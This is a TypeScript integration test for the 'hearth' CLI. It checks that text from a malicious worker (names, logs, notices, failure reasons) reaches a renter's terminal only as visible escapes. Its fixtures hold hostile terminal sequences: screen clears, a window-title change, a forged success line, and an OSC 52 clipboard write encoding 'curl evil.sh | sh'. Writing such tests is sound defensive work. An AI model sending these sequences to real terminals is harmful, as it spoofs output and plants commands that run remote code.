// A worker is a stranger, and what it says reaches renters' terminals: its name and its GPUs'
// names (`hearth gpus`, shown to everyone), notices and reasons (`hearth logs`, `hearth jobs`) and
// the job's log. A scripted malicious worker speaking the real protocol to a real broker tries to
// clear the screen, set the window title (OSC 0), write the clipboard (OSC 52) and forge a green
// "succeeded" line; the built `hearth` CLI must show all of it as visible escapes, keeping only
// the log's own colours and `\r` (issue 14, finding 12).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { BrokerClient } from '../../src/client/api';
import { startBroker, type RunningBroker } from '../../src/broker/server';
import { backendFor } from '../backend';
import { hearth } from './helpers';
import { CPU, ScriptedWorker } from './scripted-worker';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const TITLE = '\x1b]0;you have been pwned\x07';
const CLEAR = '\x1b[2J\x1b[3J\x1b[H';
const C1_CSI = '\u009b2J';
const FORGED = '\x1b[32mhearth: job_0000000000 succeeded · cost 0.0000 credits\x1b[0m';

/** What a terminal would act on: any C0 control but \t \n \r, DEL, C1; SGR sequences are taken out first when `sgr`. */
function actedOn(text: string, o: { sgr?: boolean } = {}): string[] {
  // eslint-disable-next-line no-control-regex
  const rest = o.sgr ? text.replace(/\x1b\[[0-9;:]*m/g, '') : text;
  // eslint-disable-next-line no-control-regex
  return [...rest.matchAll(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g)].map((m) => JSON.stringify(rest.slice(Math.max(0, m.index - 10), m.index + 10)));
}

describe('worker text in the renter\'s terminal (integration)', function () {
  this.timeout(120_000);
  let dir: string;
  let broker: RunningBroker;
  let admin: BrokerClient;
  const sockets: ScriptedWorker[] = [];
  before(async () => {
    dir = mkdtempSync(join(os.tmpdir(), 'hearth-terminal-'));
    const dataDir = join(dir, 'broker');
    broker = await startBroker({ ...(await backendFor(dataDir)), dataDir, port: 0, heartbeatMs: 500 });
    admin = new BrokerClient({ url: broker.url, token: broker.adminToken! });
  });
  after(async () => {
    for (const s of sockets.splice(0)) await s.close();
    await broker?.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const env = (token: string) => ({ HEARTH_BROKER_URL: broker.url, HEARTH_TOKEN: token, HEARTH_DATA_DIR: join(dir, 'cli') });

  async function account(name: string): Promise<{ user: BrokerClient; token: string; workerToken: string }> {
    const { token } = await admin.createAccount(name);
    const user = new BrokerClient({ url: broker.url, token });
    return { user, token, workerToken: (await user.createToken('worker', `${name}'s worker`)).token };
  }

  it('a worker and GPU named with escape sequences never reach `hearth gpus` raw', async () => {
    const mallory = await account('mallory-names');
    const alice = await account('alice-names');
    for (const hello of [{ name: `evil${CLEAR}${TITLE}` }, { name: 'plain', gpus: [{ ...CPU[0]!, name: `H100${OSC52}` }] }, { name: `rtl\u202eexe.txt` }]) {
      const s = new ScriptedWorker(broker.url, mallory.workerToken);
      sockets.push(s);
      // Refused at the broker's boundary, saying why; or, if taken, shown inert.
      await s.connect(hello).then(
        () => undefined,
        (err: Error) => assert.match(err.message, /control characters|timed out|closed/, err.message),
      );
      const refusal = s.received.find((m) => m.type === 'error');
      if (refusal) assert.match((refusal as { message: string }).message, /must not contain control characters/);
    }
    const gpus = await hearth(['gpus'], env(alice.token));
    assert.equal(gpus.code, 0, gpus.stderr);
    assert.deepEqual(actedOn(gpus.stdout + gpus.stderr), []);
    assert.doesNotMatch(gpus.stdout, /\u202e/);
    const json = await hearth(['gpus', '--json'], env(alice.token));
    assert.deepEqual(actedOn(json.stdout), []);
    assert.doesNotMatch(json.stdout, /\u202e/);
  });

  it('notices, reasons and the log of a job on a hostile worker are shown inert, keeping the log\'s colours and \\r', async () => {
    const mallory = await account('mallory-log');
    const alice = await account('alice-log');
    const w = new ScriptedWorker(broker.url, mallory.workerToken);
    sockets.push(w);
    await w.connect({ name: 'honest-looking' });
    const lease = await alice.user.createLease({ workerId: w.workerId, count: 1, hours: 1 });
    const script = Buffer.from('print(1)\n');
    const sha = createHash('sha256').update(script).digest('hex');
    await alice.user.putBlob(sha, script, script.length);
    const job = await alice.user.submitJob({ leaseId: lease.id, entry: 'run.py', args: [], env: {}, outputs: [], logdir: 'runs', manifest: { files: [{ path: 'run.py', sha256: sha, size: script.length, executable: false }] } });
    await w.waitFor((m) => m.type === 'job' && m.job.jobId === job.id, 'the job');
    w.send({ type: 'job-accepted', jobId: job.id });
    const colour = '\x1b[1;31mred\x1b[0m';
    const bodies = [
      { type: 'status', status: 'running' },
      { type: 'log', stream: 'stdout', data: `epoch 1 ${colour} 50%\r100%\n${OSC52}${TITLE}${CLEAR}${C1_CSI}\x1bcafter\n` },
      // A colour sequence cut between two chunks stays a colour.
      { type: 'log', stream: 'stdout', data: 'loss \x1b[3' },
      { type: 'log', stream: 'stdout', data: '2m0.1\x1b[0m\n' },
      { type: 'notice', level: 'info', message: `all good\n${FORGED}\n${TITLE}` },
      { type: 'status', status: 'failed', exitCode: 1, reason: `out of memory${CLEAR}\r${FORGED}` },
    ] as const;
    bodies.forEach((b, i) => w.event(job.id, i + 1, b));
    await w.acked(job.id, bodies.length);

    // Colours on as on a terminal (FORCE_COLOR): what reaches it keeps them, and nothing else acts.
    const logs = await hearth(['logs', job.id], { ...env(alice.token), FORCE_COLOR: '1' });
    assert.equal(logs.code, 1, logs.stderr);
    assert.deepEqual(actedOn(logs.stdout, { sgr: true }), [], 'stdout');
    assert.deepEqual(actedOn(logs.stderr, { sgr: true }), [], 'stderr');
    assert.ok(logs.stdout.includes(`epoch 1 ${colour} 50%\r100%\n`), 'the log keeps its colours and \\r');
    assert.ok(logs.stdout.includes('loss \x1b[32m0.1\x1b[0m\n'), JSON.stringify(logs.stdout));
    assert.ok(logs.stdout.includes('\\x1b]52;c;'), 'the clipboard write is shown, not done');
    // No worker text makes a line that reads as hearth's own, nor colours it.
    assert.doesNotMatch(logs.stderr, /^hearth: job_0000000000 succeeded/m);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(logs.stderr, /\x1b/, 'notices and reasons carry no escape at all');
    assert.match(logs.stderr, /^hearth: job failed \(exit code 1\): out of memory\\x1b\[2J/m);

    const jobs = await hearth(['jobs'], env(alice.token));
    assert.equal(jobs.code, 0, jobs.stderr);
    assert.deepEqual(actedOn(jobs.stdout), []);
    assert.match(jobs.stdout, /out of memory\\x1b\[2J/);
    const jobsJson = await hearth(['jobs', '--json'], env(alice.token));
    assert.deepEqual(actedOn(jobsJson.stdout), []);
  });
});
